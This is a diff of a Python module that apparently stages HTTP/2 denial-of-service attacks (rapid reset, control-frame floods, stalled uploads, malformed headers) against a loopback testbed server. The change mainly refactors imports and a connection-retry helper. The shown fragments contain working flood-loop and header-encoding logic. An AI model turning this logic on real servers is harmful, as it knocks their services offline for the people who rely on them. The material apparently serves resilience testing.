@@ -22,6 +22,7 @@ from dataclasses import dataclass
 import h2.config
 import h2.connection
 import h2.errors
+import hpack
 
 ATTACKER_ADDR = "127.0.0.2"
 """Source address of every attack (loopback; the normal probes come from 127.0.0.1)."""
@@ -91,6 +92,16 @@ def _tls_context() -> ssl.SSLContext:
 
 def _tls(target: Target) -> ssl.SSLSocket:
     return _tls_context().wrap_socket(_tcp(target), server_hostname="testbed.local")
+
+
+def _tls_or_pause(target: Target) -> ssl.SSLSocket | None:
+    """A TLS connection to ``target``; None after a 50 ms pause when it refused (a server
+    at its connection limit): the attacker's loop tries again."""
+    try:
+        return _tls(target)
+    except OSError:
+        time.sleep(0.05)
+        return None
 
 
 def _h2_client() -> h2.connection.H2Connection:
@@ -167,7 +178,6 @@ def initial_flood(target: Target, duration_s: float, burst: int, rate_per_s: int
 def _header_blocks() -> tuple[bytes, bytes]:
     """HPACK blocks of ``GET /tts``: the first (which fills the peer's dynamic table) and the
     one every later stream repeats (indexed fields only: the table does not change)."""
-    import hpack
 
     encoder = hpack.Encoder()
     headers = [
@@ -189,10 +199,8 @@ def rapid_reset(target: Target, duration_s: float, streams: int) -> str:
     deadline = time.monotonic() + duration_s
     sent = connections = goaways = 0
     while sent < streams and time.monotonic() < deadline:
-        try:
-            sock = _tls(target)
-        except OSError:
-            time.sleep(0.05)
+        sock = _tls_or_pause(target)
+        if sock is None:
             continue
         connections += 1
         peer = _PeerFrames()
@@ -434,7 +442,6 @@ def _ping_frame(i: int) -> bytes:
 
 def _upload_head() -> bytes:
     """HEADERS of an upload whose body never comes (the stream the empty DATA frames use)."""
-    import hpack
 
     headers = [(":method", "POST"), (":path", "/sink"), (":scheme", "https"),
                (":authority", "x"), ("content-length", "1000000")]  # fmt: skip
@@ -459,7 +466,6 @@ def _window_update_frame(_: int) -> bytes:
 def _refused_head() -> bytes:
     """HEADERS (no END_STREAM) of a request head the server refuses, a header value that is
     not UTF-8: the server resets stream 1 with RST_STREAM(PROTOCOL_ERROR)."""
-    import hpack
 
     headers = [(b":method", b"POST"), (b":path", b"/sink"), (b":scheme", b"https"),
                (b":authority", b"x"), (b"x-bad", b"\xff")]  # fmt: skip
@@ -532,10 +538,8 @@ def control_flood(target: Target, duration_s: float, kind: str, frames: int) -> 
     sent = connections = goaways = 0
     replies_bytes = 0
     while sent < frames and time.monotonic() < deadline:
-        try:
-            sock = _tls(target)
-        except OSError:
-            time.sleep(0.05)
+        sock = _tls_or_pause(target)
+        if sock is None:
             continue
         connections += 1
         scan = _GoawayScan()
